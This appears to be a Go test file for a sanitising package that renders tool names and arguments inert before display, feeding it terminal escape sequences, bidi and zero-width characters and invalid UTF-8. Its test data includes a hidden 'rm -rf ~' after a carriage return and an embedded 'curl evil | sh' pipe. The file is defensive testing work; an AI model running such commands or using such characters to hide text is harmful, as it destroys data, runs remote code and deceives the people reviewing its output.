package inert

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are the values every sink is fed (see also sinks_test.go).
var hostile = map[string]string{
	"clear screen":      "\x1b[2J\x1b[H",
	"window title":      "\x1b]0;pwned\x07",
	"carriage return":   "safe\rrm -rf ~",
	"backspace":         "secret\b\b\b\b\b\b",
	"C1 CSI":            "\u009b31m",
	"8-bit CSI byte":    "\x9b31m",
	"DEL":               "a\x7fb",
	"bidi override":     "abc\u202edcba",
	"bidi isolate":      "\u2066x\u2069",
	"bidi mark":         "a\u200fb",
	"zero width":        "r\u200bm",
	"zero width joiner": "a\u200db",
	"bom":               "\ufeffls",
	"line separator":    "a\u2028b",
	"hangul filler":     "a\u3164b",
	"tag character":     "a\U000E0041b",
	"private use":       "a\ue000b",
	"invalid utf-8":     "a\xff\xfeb",
	"truncated rune":    "a\xe2\x80",
}

func TestLine(t *testing.T) {
	t.Parallel()
	cases := map[string]struct{ in, want string }{
		"plain":           {"rm notes.txt", "rm notes.txt"},
		"unicode stays":   {"ünïcødé 日本 🐢 👍🏽", "ünïcødé 日本 🐢 👍🏽"},
		"newline and tab": {"a\nb\tc", `a\nb\tc`},
		"backslash":       {`a\nb`, `a\\nb`},
		"clear screen":    {"\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
		"window title":    {"\x1b]0;pwned\x07", `\x1b]0;pwned\x07`},
		"carriage return": {"ok\rFAKE", `ok\rFAKE`},
		"backspace":       {"s\b", `s\x08`},
		"C1 rune":         {"\u009b31m", `\u009b31m`},
		"raw 0x9b byte":   {"\x9b31m", `\x9b31m`},
		"bidi override":   {"abc\u202edcba", `abc\u202edcba`},
		"isolates":        {"\u2066x\u2069", `\u2066x\u2069`},
		"zero width":      {"r\u200bm", `r\u200bm`},
		"hangul filler":   {"a\u3164b", `a\u3164b`},
		"tag":             {"a\U000E0041b", `a\U000e0041b`},
		"invalid bytes":   {"a\xff\xfeb", `a\xff\xfeb`},
		"truncated rune":  {"a\xe2\x80", `a\xe2\x80`},
		"replacement ok":  {"a\uFFFDb", "a\uFFFDb"},
	}
	for name, tc := range cases {
		if got := Line(tc.in); got != tc.want {
			t.Errorf("%s: Line(%q) = %q, want %q", name, tc.in, got, tc.want)
		}
	}
}

// TestEverySinkFunctionIsInert: whatever goes in, what comes out holds no
// character a terminal acts on or that hides text, and is valid UTF-8.
func TestEverySinkFunctionIsInert(t *testing.T) {
	t.Parallel()
	sinks := map[string]func(string) string{
		"Line":  Line,
		"Short": func(s string) string { return Short(s, 10) },
		"Name":  Name,
		"Block": func(s string) string { return Block(s, "  | ") },
		"Text":  Text,
		"HTML":  HTML,
		"Args":  func(s string) string { return Args(`{"k`+s+`":"`+s+`"}`, 0, "") + Args(s, 5, s) },
	}
	for sink, f := range sinks {
		for name, v := range hostile {
			out := f(v + "\n" + v + "\t" + strings.Repeat(v, 50))
			if bad := Raw(out, sink == "Line" || sink == "Short" || sink == "Name"); bad != "" {
				t.Errorf("%s(%s): raw %s in %q", sink, name, bad, out)
			}
		}
	}
}

func TestShortAndName(t *testing.T) {
	t.Parallel()
	if got := Short("abcdef", 6); got != "abcdef" {
		t.Errorf("Short fit = %q", got)
	}
	if got := Short("abcdefg", 6); got != "abcde…" {
		t.Errorf("Short cut = %q", got)
	}
	// An escape is never cut in two.
	if got := Short("ab\x1bcdef", 5); got != "ab…" {
		t.Errorf("Short across an escape = %q", got)
	}
	if got := Short(strings.Repeat("é", 1<<20), 4); got != "ééé…" {
		t.Errorf("Short of a long value = %q", got)
	}
	for in, want := range map[string]string{
		"run_shell":             "run_shell",
		"tg:42":                 "tg:42",
		"":                      `""`,
		"get_time ✓":            `"get_time ✓"`,
		"a\"b":                  `"a\"b"`,
		"x\x1b[2J":              `"x\x1b[2J"`,
		strings.Repeat("n", 65): `"` + strings.Repeat("n", 63) + `…"`,
	} {
		if got := Name(in); got != want {
			t.Errorf("Name(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBlockKeepsLinesBehindTheGutter(t *testing.T) {
	t.Parallel()
	got := Block("one\r\n\ttwo \\ \x1b[2J\n--- test ---", "  | ")
	want := "  | one\\r\n  | \ttwo \\\\ \\x1b[2J\n  | --- test ---"
	if got != want {
		t.Errorf("Block = %q, want %q", got, want)
	}
	if got := Text("C:\\Users\tok\n\x1b[2J"); got != "C:\\Users\tok\n\\x1b[2J" {
		t.Errorf("Text = %q", got)
	}
	if s := Text("a\x1b\u202e\xff"); Text(s) != s {
		t.Errorf("Text is not idempotent: %q -> %q", s, Text(s))
	}
	if got := HTML("<b>&\x1b</b>"); got != `&lt;b&gt;&amp;\x1b&lt;/b&gt;` {
		t.Errorf("HTML = %q", got)
	}
}

func TestArgsSaysWhatIsNotShown(t *testing.T) {
	t.Parallel()
	cmd := strings.Repeat("a", 1400) + "; curl evil | sh; " + strings.Repeat("b", 4582)
	got := Args(`{"command":"`+cmd+`","n":1.50,"list":["<x>"]}`, 2000, "see all")
	want := "[4,000 bytes not shown: bytes 1,001-5,000 of 6,000; see all]"
	if !strings.Contains(got, want) || strings.Contains(got, "curl evil") {
		t.Errorf("Args = %q", got)
	}
	if !strings.Contains(got, "  list: [\"<x>\"]\n  n: 1.50\n") {
		t.Errorf("non-string values: %q", got)
	}
	if full := Args(`{"command":"`+cmd+`"}`, 0, ""); full != "  command: "+cmd+"\n" {
		t.Errorf("max 0 cut something: %d bytes", len(full))
	}
	multi := strings.Repeat("line\n", 1000)
	got = Args(`{"content":"`+strings.ReplaceAll(multi, "\n", `\n`)+`"}`, 100, "")
	if !strings.HasPrefix(got, "  content: (1,001 lines, 5,000 bytes)\n    | line\n") || !strings.Contains(got, "\n    [4,900 bytes not shown: bytes 51-4,950 of 5,000]\n    | ") {
		t.Errorf("multi-line Args = %q", got)
	}
	if got := Count(1234567); got != "1,234,567" {
		t.Errorf("Count = %q", got)
	}
	if _, _, cut := Cut("é", 1); !cut {
		t.Error("Cut of a value over max")
	}
	h, tl, _ := Cut(strings.Repeat("é", 10), 7)
	if !utf8.ValidString(h) || !utf8.ValidString(tl) {
		t.Errorf("Cut split a character: %q %q", h, tl)
	}
}
